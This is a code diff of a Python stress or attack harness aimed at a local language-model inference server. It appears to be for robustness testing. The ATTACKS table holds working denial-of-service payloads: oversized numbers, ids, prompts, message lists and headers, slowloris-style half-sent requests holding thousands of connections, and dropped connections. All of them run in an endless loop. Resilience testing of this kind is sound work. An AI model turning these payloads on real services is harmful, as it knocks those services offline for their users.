@@ -28,7 +28,7 @@ def request(path: str, body: object) -> bytes:
     return HEAD % (path.encode(), len(content)) + content
 
 
-def answered(port: int, content: bytes) -> None:
+def answered(port: int, content: bytes, held: list[socket.socket]) -> None:
     """Sends a request, and reads what arrives within a second."""
     with socket.create_connection(("127.0.0.1", port), timeout=1) as connection:
         connection.sendall(content)
@@ -47,17 +47,17 @@ def unread(port: int, content: bytes, held: list[socket.socket]) -> None:
         held.pop(0).close()
 
 
-def idle(port: int, held: list[socket.socket]) -> None:
-    """Opens connections, of which half begin a request, until they are closed."""
+def idle(port: int, content: bytes, held: list[socket.socket]) -> None:
+    """Opens connections, of which half begin a request with the content; many stay open."""
     for half in (False, True):
         held.append(socket.create_connection(("127.0.0.1", port)))
         if half:
-            held[-1].sendall(b"POST /v1/completions HTTP/1.1\r\nHost: x\r\nX: ")
+            held[-1].sendall(content)
     while len(held) > 2000:
         held.pop(0).close()
 
 
-def vanishing(port: int, content: bytes) -> None:
+def vanishing(port: int, content: bytes, held: list[socket.socket]) -> None:
     """Sends a request, and closes the connection at once."""
     with socket.create_connection(("127.0.0.1", port)) as connection:
         connection.sendall(content)
@@ -70,36 +70,38 @@ def completion(**fields: object) -> bytes:
 LONG = {"input_ids": [1, 2, 3], "stream": True, "return_logprob": True, "top_logprobs_num": 20}
 LONG |= {"sampling_params": {"max_new_tokens": 60, "ignore_eos": True}}
 SCORES = {"prompt": [[1, 2, 3] * 20] * 4, "max_tokens": 0, "prompt_logprobs": 0}
-ATTACKS: dict[str, Callable[[int, list[socket.socket]], None]] = {
-    "values": lambda port, held: answered(port, completion(top_k=2**31)),
-    "digits": lambda port, held: answered(port, completion().replace(b": 1}", b": %d}" % 10**4000)),
-    "ids": lambda port, held: answered(port, request("/generate", LONG | {"rid": "r" * 10**6})),
-    "path": lambda port, held: answered(
-        port, request("/update_weights_from_disk", {"model_path": "/" + "a" * 4000})
+PATH = {"model_path": "/" + "a" * 4000}
+MESSAGES = {"messages": [{"role": "user", "content": "a"}] * 10**5}
+# How each kind sends, and a function that returns what it sends.
+ATTACKS: dict[
+    str, tuple[Callable[[int, bytes, list[socket.socket]], None], Callable[[], bytes]]
+] = {
+    "values": (answered, lambda: completion(top_k=2**31)),
+    "digits": (answered, lambda: completion().replace(b": 1}", b": %d}" % 10**4000)),
+    "ids": (answered, lambda: request("/generate", LONG | {"rid": "r" * 10**6})),
+    "path": (answered, lambda: request("/update_weights_from_disk", PATH)),
+    "texts": (answered, lambda: completion(prompt="ab " * 5 * 2**20)),
+    "values_many": (
+        answered,
+        lambda: request("/v1/completions", b'{"prompt": [' + b"[]," * 2**21 + b"[]]}"),
     ),
-    "texts": lambda port, held: answered(port, completion(prompt="ab " * 5 * 2**20)),
-    "values_many": lambda port, held: answered(
-        port, request("/v1/completions", b'{"prompt": [' + b"[]," * 2**21 + b"[]]}")
-    ),
-    "messages": lambda port, held: answered(
-        port,
-        request("/v1/chat/completions", {"messages": [{"role": "user", "content": "a"}] * 10**5}),
-    ),
-    "unread": lambda port, held: unread(port, request("/generate", LONG), held),
-    "idle": idle,
-    "headers": lambda port, held: answered(port, b"GET / HTTP/1.1\r\n" + b"a: b\r\n" * 10**5),
-    "header": lambda port, held: answered(port, b"GET / HTTP/1.1\r\nA: " + b"a" * 2**20),
-    "scores": lambda port, held: vanishing(port, request("/v1/completions", SCORES)),
-    "vanishing": lambda port, held: vanishing(port, completion(max_tokens=500, ignore_eos=True)),
+    "messages": (answered, lambda: request("/v1/chat/completions", MESSAGES)),
+    "unread": (unread, lambda: request("/generate", LONG)),
+    "idle": (idle, lambda: b"POST /v1/completions HTTP/1.1\r\nHost: x\r\nX: "),
+    "headers": (answered, lambda: b"GET / HTTP/1.1\r\n" + b"a: b\r\n" * 10**5),
+    "header": (answered, lambda: b"GET / HTTP/1.1\r\nA: " + b"a" * 2**20),
+    "scores": (vanishing, lambda: request("/v1/completions", SCORES)),
+    "vanishing": (vanishing, lambda: completion(max_tokens=500, ignore_eos=True)),
 }
 
 
 def attack(kind: str, port: int) -> None:
     """Attacks the server without end."""
     held: list[socket.socket] = []
+    send, content = ATTACKS[kind][0], ATTACKS[kind][1]()
     while True:
         with suppress(OSError):
-            ATTACKS[kind](port, held)
+            send(port, content, held)
         time.sleep(PAUSE)
 
 
